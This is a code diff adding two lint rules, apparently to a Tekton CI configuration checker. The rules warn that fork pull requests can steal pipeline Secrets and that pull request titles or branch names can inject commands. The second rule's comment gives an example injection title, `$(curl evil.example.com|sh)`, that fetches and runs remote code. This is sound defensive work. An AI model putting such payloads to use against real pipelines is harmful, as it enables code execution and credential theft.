@@ -1951,6 +1951,53 @@ const TriggerExternal = "trigger-external"
 // Severity: error. Topic: triggers.
 const TriggerUnknown = "trigger-unknown"
 
+// UntrustedCode is untrusted-code: strangers' code gets credentials.
+//
+// The trigger starts a run for a pull request of anyone, also from a fork. The
+// run checks out the commit, and a task that has its files also gets a Secret,
+// or a service account with permissions of its own. The author of the commit
+// writes the Makefile, the tests or the Dockerfile that the task runs. They can
+// read the Secret and the token of the service account, and send them away.
+//
+// Stop strangers with a filter, for example by the repository of the commit
+// (`body.pull_request.head.repo.full_name == body.repository.full_name`), by
+// `author_association`, or by the id of the author. Or run their pull requests
+// with another trigger whose tasks get no credentials. Names of users are a
+// weak filter, since a name can be given up and be taken by somebody else. If
+// nobody else can read the repository, add `body.repository.private` to the
+// filter (GitHub, Gitea), or explain it in the annotation
+// `check.tekwright.dev/untrusted-code`.
+//
+// The rule follows the commit from the binding to the task that checks it out,
+// if the Pipeline is among the checked objects. Interceptors that do not come
+// with Tekton Triggers are assumed to stop strangers.
+//
+// Severity: warning. Topic: trust.
+const UntrustedCode = "untrusted-code"
+
+// UntrustedInput is untrusted-input: text of a stranger selects what runs.
+//
+// A title, a comment or the name of a branch reaches a place where it is
+// executed or selects what is executed: a script or an image, a command, the
+// commit that is checked out, a service account, a Secret, the directory that
+// is mounted, or the Task that a resolver fetches. Anyone can write the text:
+// whoever opens a pull request with the title `$(curl evil.example.com|sh)`
+// runs that command.
+//
+// The finding is at the last place. The related place is the binding that reads
+// the text from the event. In a script, pass the text through env, and quote
+// the shell variable. Elsewhere use a fixed text, or a value that the sender of
+// the event determines, such as the hash of the commit. A filter that lets only
+// some people or some texts pass also helps.
+//
+// In a run of Pipelines-as-Code, `{{ source_branch }}` and `{{
+// body.pull_request.title }}` are such texts. Pipelines-as-Code asks somebody
+// with write access before it runs the commits of a stranger, but the text can
+// be seen only in the title and in the name of the branch.
+//
+// Severity: warning. Topic: trust.
+const UntrustedInput = "untrusted-input"
+
 // ValueMissing is value-missing: a param is set without a value.
 //
 // A param in a run or a pipeline task needs a name and a value. Without a
